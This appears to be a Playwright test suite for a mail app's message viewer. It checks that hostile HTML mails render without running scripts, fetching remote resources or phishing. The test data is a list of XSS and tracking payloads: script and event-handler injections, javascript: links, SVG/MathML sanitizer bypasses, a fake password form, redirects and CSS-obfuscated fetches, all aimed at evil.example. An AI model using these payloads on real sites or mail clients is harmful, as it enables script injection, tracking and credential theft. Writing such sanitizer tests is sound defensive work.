import { expect, test } from '@playwright/test';
import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { expectHarmless, type Misdeeds, mailWith, watchFor } from './app/hostile-mail.ts';
import { emptyFolder, openApp, type OpenApp, shopbell } from './app/running-app.ts';
import { ConversationPage } from './pages/conversation.ts';
import { InboxPage } from './pages/inbox.ts';

/** Each title is what the mail tries. */
const hostile = {
  'runs a script': '<script>alert(1)</script><script src="https://evil.example/x.js"></script>',
  'runs from an event':
    '<img src=x onerror="alert(1)"><body onload=alert(1)><details open ontoggle=alert(1)>x</details><p onpointerenter=alert(1) style="padding:200px">y</p>',
  'runs from a link':
    '<a href="javascript:alert(1)">a</a><a href=" jav&#x09;ascript:alert(1)">b</a><a href="data:text/html,<script>alert(1)</script>">c</a>',
  'runs from SVG or MathML':
    '<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s></svg><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></table></math>',
  'brings a frame of its own':
    '<iframe src="https://evil.example"></iframe><object data="https://evil.example"></object><embed src="https://evil.example">',
  'asks for a password':
    '<form action="https://evil.example"><input name=password autofocus><button>Sign in</button></form>',
  'moves the page away':
    '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">',
  'fetches images by every way there is':
    '<img src="https://evil.example/1.gif"><img srcset="https://evil.example/2.gif 1x"><table background="https://evil.example/3.gif"><tr><td style="background:url(https://evil.example/4.gif)">x</td></tr></table><input type=image src="https://evil.example/5.gif"><video poster="https://evil.example/6.gif"></video><picture><source srcset="https://evil.example/7.gif"><img></picture><img src="//evil.example/8.gif">',
  'fetches by style sheet':
    '<link rel=stylesheet href="https://evil.example/1.css"><style>@import "https://evil.example/2.css"; @font-face{font-family:a;src:url(https://evil.example/3.woff)} p{background:u\\72l(https://evil.example/4.gif);font-family:a} li{list-style:ur/**/l("https://evil.example/5.gif")}</style><ul><li>x</ul>',
  'fetches ahead':
    '<link rel="dns-prefetch" href="//evil.example"><link rel=preload as=image href="https://evil.example/1.gif"><a href="https://example.com" ping="https://evil.example/2">x</a>',
  'reaches for the app it is shown in':
    '<a href="/rpc">a</a><a href="#/settings" target="_top">b</a><img src="/bytes/uploads"><form action="/bytes/uploads" method=post><button>c</button></form>',
  'covers the window': '<div style="position:fixed;inset:0;background:red;z-index:9999">Your session expired</div>',
};

// The tracer puts a script of its own into every frame, which the sandbox stops and the browser reports like one of the mail's.
test.use({ trace: 'off' });

const titles = Object.keys(hostile);
// From ten on, so that no number is the beginning of another.
const numberOf = (title: string): number => titles.indexOf(title) + 10;
let folder: Awaited<ReturnType<typeof emptyFolder>>;
let app: OpenApp;
let misdeeds: Misdeeds;

test.beforeAll(async () => {
  folder = await emptyFolder();
  const mails = join(folder.path, 'mails');
  await mkdir(mails);
  await Promise.all(
    Object.entries(hostile).map(([title, html]) =>
      writeFile(join(mails, `${numberOf(title)}.eml`), mailWith(html, numberOf(title))),
    ),
  );
  await shopbell(join(folder.path, 'log'), 'import', 'mail', mails);
  app = await openApp(join(folder.path, 'log'));
  misdeeds = await watchFor(app.page);
});

test.afterAll(async () => {
  await app?.close();
  await folder?.remove();
});

async function show(title: string): Promise<ConversationPage> {
  const inbox = new InboxPage(app.page);
  await inbox.open();
  await inbox.openConversation(`Case ${numberOf(title)}`);
  const conversation = new ConversationPage(app.page);
  await expect(conversation.newestFrame.getByText(`Case ${numberOf(title)}.`)).toBeVisible();
  return conversation;
}

for (const title of titles) {
  test(`A mail that ${title} is shown and does nothing.`, async () => {
    await show(title);
    await expectHarmless(app.page, misdeeds);
  });
}

test('Remote images are fetched for one message when somebody asks for them, and by no other way.', async () => {
  const conversation = await show('fetches images by every way there is');
  await conversation.showImages.click();
  await expect
    .poll(() => misdeeds.requests.toSorted())
    .toEqual(['https://evil.example/1.gif', 'https://evil.example/8.gif']);
  await show('fetches by style sheet');
  await show('fetches images by every way there is');
  expect(misdeeds.requests.splice(0)).toHaveLength(2);
  await expect(conversation.showImages).toBeVisible();
});

test('A link opens outside, shows where it really leads and tells nobody where it was clicked.', async () => {
  const conversation = await show('fetches ahead');
  const link = conversation.newestFrame.getByRole('link', { name: 'x' });
  await expect(link).toHaveAttribute('title', 'https://example.com');
  await expect(link).toHaveAttribute('rel', /noopener.*noreferrer/);
  await expect(link).toHaveAttribute('target', '_blank');
});
